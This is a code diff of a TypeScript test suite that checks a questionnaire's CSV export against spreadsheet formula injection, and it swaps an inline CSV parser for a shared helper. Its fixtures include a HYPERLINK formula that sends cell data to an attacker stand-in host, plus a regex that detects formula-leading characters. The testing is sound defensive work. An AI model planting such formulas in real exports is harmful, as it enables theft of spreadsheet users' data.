@@ -5,6 +5,7 @@ import { questionsOf } from '#domain/model.ts';
 import { renderQuestionnaire } from '#render/questionnaire.ts';
 import { questionsAsCsv } from '#render/questions.ts';
 import { oneElement } from '../support/make-model.ts';
+import { readCsv } from './report/read-csv.ts';
 
 /** A model of one question that says the same hostile thing in every text. */
 function modelSaying(text: string, more: Partial<Question> = {}) {
@@ -37,21 +38,6 @@ function modelSaying(text: string, more: Partial<Question> = {}) {
   };
 }
 
-/** The cells of a CSV text, by RFC 4180. */
-function cellsOf(csv: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  for (const [, quoted, plain = '', end = ''] of csv.matchAll(
-    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g,
-  )) {
-    row.push(quoted?.replaceAll('""', '"') ?? plain);
-    if (end === ',') continue;
-    rows.push(row);
-    row = [];
-  }
-  return rows.filter((cells) => cells.length > 1);
-}
-
 const formulas = [
   '=1+1',
   '=HYPERLINK("http://evil.example?x="&A1,"Error: click")',
@@ -76,7 +62,7 @@ const startsFormula = /^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u;
 describe('questions as CSV', () => {
   it.each(formulas)('%j is no formula in any cell', (text) => {
     const model = modelSaying(text);
-    const [header = [], ...rows] = cellsOf(questionsAsCsv(model, questionsOf(model)));
+    const [header = [], ...rows] = readCsv(questionsAsCsv(model, questionsOf(model)));
     expect(rows).toHaveLength(1);
     for (const cells of rows) {
       expect(cells).toHaveLength(header.length);
@@ -90,7 +76,7 @@ describe('questions as CSV', () => {
         fc.string({ unit: fc.constantFrom('a', '"', ',', '\n', '\r', '=', "'", ' ', 'é', '\t') }),
         (text) => {
           const model = modelSaying(text);
-          const [header = [], row = [], ...more] = cellsOf(questionsAsCsv(model, questionsOf(model)));
+          const [header = [], row = [], ...more] = readCsv(questionsAsCsv(model, questionsOf(model)));
           expect(more).toEqual([]);
           expect(row).toHaveLength(header.length);
           expect(row.filter((cell) => startsFormula.test(cell))).toEqual([]);
